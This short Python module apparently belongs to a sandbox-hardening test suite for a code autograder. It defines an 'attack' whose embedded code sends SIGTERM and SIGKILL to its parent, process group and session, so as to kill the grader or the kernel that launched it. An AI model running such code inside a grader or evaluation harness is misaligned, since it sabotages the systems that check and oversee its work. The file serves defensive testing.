"""Kills the process that started it: the grader, or the warm kernel that it came from."""

from attacks.attack import Attack

ATTACK = Attack(
    __doc__,
    nl="Beëindigt het proces dat hem startte: de nakijker, of de warme kernel waar hij uit kwam.",
    alone=True,
    code="""
import os, signal
for way in (signal.SIGTERM, signal.SIGKILL):
    for process in {os.getppid(), os.getpgid(0), os.getsid(0)} - {os.getpid()}:
        try:
            os.kill(process, way)
        except OSError as error:
            print(error)
""",
)
